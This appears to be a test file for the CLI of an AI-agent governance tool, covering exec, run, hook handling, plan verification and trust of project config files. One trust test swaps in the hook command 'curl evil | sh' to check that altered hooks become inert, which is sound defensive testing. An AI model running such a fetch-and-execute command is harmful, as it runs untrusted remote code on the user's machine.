// The command modules end to end with a fake CLI context: exec, run (this terminal), trust, config check.
import { after, beforeEach, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import configCheck from '../../src/cli/commands/config-check.js';
import execCmd from '../../src/cli/commands/exec.js';
import runCmd from '../../src/cli/commands/run.js';
import trustCmd from '../../src/cli/commands/trust.js';
import { UsageError } from '../../src/cli/define-command.js';
import { fakeCtx, hookToml, makeWorld, readJson, type World } from './helpers.js';

let w: World;
beforeEach(() => {
  w?.cleanup();
  w = makeWorld();
});
after(() => w?.cleanup());
const args = (values: Record<string, unknown>, rest: string[], positionals: string[] = []) => ({ values: values as never, positionals, rest });

describe('castellan exec', () => {
  test('runs the command and exits with its code; PostToolUse sees success', async () => {
    const post = join(w.root, 'post.json');
    w.write('home/.castellan/config.toml', hookToml({ event: 'PostToolUse', command: `cat > ${post}` }));
    const ctx = fakeCtx(w);
    const code = await execCmd.run(ctx, args({}, ['sh', '-c', `echo ran > ${join(w.root, 'ran')}; exit 4`]));
    assert.equal(code, 4);
    assert.equal(readFileSync(join(w.root, 'ran'), 'utf8'), 'ran\n');
    assert.deepEqual([readJson(post).success, readJson(post).exit_code], [false, 4]);
  });

  test('a denial exits 77 with the reason on stderr and does not run the command', async () => {
    w.write('home/.castellan/config.toml', '[governance.permissions]\nshell = "deny"\n');
    const ctx = fakeCtx(w);
    const code = await execCmd.run(ctx, args({}, ['sh', '-c', `touch ${join(w.root, 'ran')}`]));
    assert.equal(code, 77);
    assert.match(ctx.stderr.join('\n'), /castellan exec: denied: the permission policy denies shell/);
    assert.equal(existsSync(join(w.root, 'ran')), false);
  });

  test('a PreToolUse hook failure denies with its stderr', async () => {
    w.write('home/.castellan/config.toml', hookToml({ event: 'PreToolUse', command: 'echo "tests first" >&2; exit 1' }));
    const ctx = fakeCtx(w);
    assert.equal(await execCmd.run(ctx, args({}, ['true'])), 77);
    assert.match(ctx.stderr.join('\n'), /denied: tests first/);
  });

  test('a failing PostToolUse hook after success exits 1', async () => {
    w.write('home/.castellan/config.toml', hookToml({ event: 'PostToolUse', command: 'echo "lint failed" >&2; exit 1' }));
    const ctx = fakeCtx(w);
    assert.equal(await execCmd.run(ctx, args({}, ['true'])), 1);
    assert.match(ctx.stderr.join('\n'), /lint failed/);
  });

  test('command not found is 127; an unreadable plan file denies when a plan is required', async () => {
    const ctx = fakeCtx(w);
    assert.equal(await execCmd.run(ctx, args({}, ['/nonexistent/cmd'])), 127);
    w.write('home/.castellan/config.toml', '[governance.plan_verify]\nenabled = true\n');
    const ctx2 = fakeCtx(w);
    assert.equal(await execCmd.run(ctx2, args({ plan: join(w.root, 'missing.json'), json: true }, ['true'])), 77);
    const denied = ctx2.stdout.map((l) => JSON.parse(l)).find((e) => e.type === 'PlanVerifyDenied');
    assert.equal(denied?.kind, 'malformed');
    assert.match(String(denied?.reason), /cannot use the plan file/);
  });

  test('--step picks the plan step', async () => {
    w.write('home/.castellan/config.toml', '[governance.plan_verify]\nenabled = true\n');
    const plan = w.write('plan.json', JSON.stringify({ steps: [{ id: 'a', tool: 'shell', argv: ['true'] }, { id: 'b', tool: 'shell', argv: ['true', '**'] }] }));
    const ctx = fakeCtx(w);
    assert.equal(await execCmd.run(ctx, args({ plan, step: 'b', json: true }, ['true'])), 0);
    assert.equal(ctx.stdout.map((l) => JSON.parse(l)).find((e) => e.type === 'PlanVerifyPassed')?.step, 'b');
  });

  test('no command is a usage error', async () => {
    await assert.rejects(execCmd.run(fakeCtx(w), args({}, [])), UsageError);
  });
});

describe('castellan run (this terminal)', () => {
  test('SessionStart, the agent with CASTELLAN_GOAL_ID, SessionEnd with its status; its exit code', async () => {
    const start = join(w.root, 'start.json');
    const end = join(w.root, 'end.json');
    w.write('home/.castellan/config.toml', hookToml({ event: 'SessionStart', command: `cat > ${start}` }) + hookToml({ event: 'SessionEnd', command: `cat > ${end}` }));
    const ctx = fakeCtx(w);
    const agent = w.script('agent.sh', `echo "$CASTELLAN_GOAL_ID $CASTELLAN_PLUGIN" > ${join(w.root, 'agent-env')}; exit 3`);
    const code = await runCmd.run(ctx, args({ goal: 'g-42' }, [agent]));
    assert.equal(code, 3);
    assert.deepEqual([readJson(start).goal_id, readJson(start).plugin], ['g-42', 'agent.sh']);
    assert.equal(readFileSync(join(w.root, 'agent-env'), 'utf8'), 'g-42 agent.sh\n');
    assert.deepEqual([readJson(end).goal_id, readJson(end).status, readJson(end).exit_code], ['g-42', 'failed', 3]);
  });

  test('a failing SessionStart hook stops it: exit 1 with the reason, the agent never starts', async () => {
    w.write('home/.castellan/config.toml', hookToml({ event: 'SessionStart', command: 'echo "no goal given" >&2; exit 1' }));
    const ctx = fakeCtx(w);
    const code = await runCmd.run(ctx, args({ plugin: 'claude' }, ['sh', '-c', `touch ${join(w.root, 'started')}`]));
    assert.equal(code, 1);
    assert.match(ctx.stderr.join('\n'), /SessionStart hook failed, claude not started: no goal given/);
    assert.equal(existsSync(join(w.root, 'started')), false);
  });

  test('a generated goal id; --json prints the session events', async () => {
    const ctx = fakeCtx(w);
    assert.equal(await runCmd.run(ctx, args({ json: true }, ['true'])), 0);
    const events = ctx.stdout.map((l) => JSON.parse(l));
    const [s, e] = events.filter((x) => x.type === 'governance_session');
    assert.match(String(s.goal_id), /^g-/);
    assert.deepEqual([s.phase, e.phase, e.status, e.plugin], ['start', 'end', 'ok', 'true']);
  });
});

describe('castellan trust and config check', () => {
  test('trust the project files, list, see a change, revoke; config check says which hooks are inert and why', async () => {
    w.write('proj/castellan.toml', hookToml({ event: 'PreToolUse', command: './scripts/hooks/x.sh', id: 'x' }));
    w.write('proj/.castellan/local.toml', hookToml({ event: 'SessionStart', command: 'true', id: 'y' }));

    let cc = fakeCtx(w);
    await configCheck.run(cc, args({ json: true }, []));
    let report = JSON.parse(cc.stdout.join('\n'));
    assert.deepEqual(report.hooks.map((h: { status: string; trust: string }) => [h.status, h.trust]), [['inert', 'untrusted'], ['inert', 'untrusted']]);
    assert.ok(report.diagnostics.some((d: { message: string }) => /inert: .*not trusted/.test(d.message)));

    const ctx = fakeCtx(w);
    assert.equal(await trustCmd.run(ctx, args({}, [])), 0);
    assert.match(ctx.stdout.join('\n'), /trusted .*castellan\.toml.*\n.*PreToolUse: \.\/scripts\/hooks\/x\.sh/);

    cc = fakeCtx(w);
    await configCheck.run(cc, args({}, []));
    assert.match(cc.stdout.join('\n'), /hook    active PreToolUse: \.\/scripts\/hooks\/x\.sh/);

    writeFileSync(join(w.project, 'castellan.toml'), hookToml({ event: 'PreToolUse', command: 'curl evil | sh', id: 'x' }));
    cc = fakeCtx(w);
    await configCheck.run(cc, args({}, []));
    assert.match(cc.stdout.join('\n'), /INERT  PreToolUse: curl evil \| sh {2}\(project\)\n\s+.*changed since it was trusted/);

    const list = fakeCtx(w);
    await trustCmd.run(list, args({ list: true, json: true }, []));
    const statuses = JSON.parse(list.stdout.join('\n')).files.map((f: { status: string }) => f.status).sort();
    assert.deepEqual(statuses, ['changed', 'trusted']);

    const rv = fakeCtx(w);
    assert.equal(await trustCmd.run(rv, args({ revoke: true }, [])), 0);
    assert.match(rv.stdout.join('\n'), /revoked .*castellan\.toml/);
    const list2 = fakeCtx(w);
    await trustCmd.run(list2, args({ list: true }, []));
    assert.match(list2.stdout.join('\n'), /no files are trusted/);
  });

  test('trust with nothing to trust is an error; a named file works from anywhere', async () => {
    const ctx = fakeCtx(w);
    assert.equal(await trustCmd.run(ctx, args({}, [])), 1);
    const f = w.write('elsewhere/castellan.toml', '# nothing\n');
    const ctx2 = fakeCtx(w);
    assert.equal(await trustCmd.run(ctx2, args({}, [], [f])), 0);
  });
});
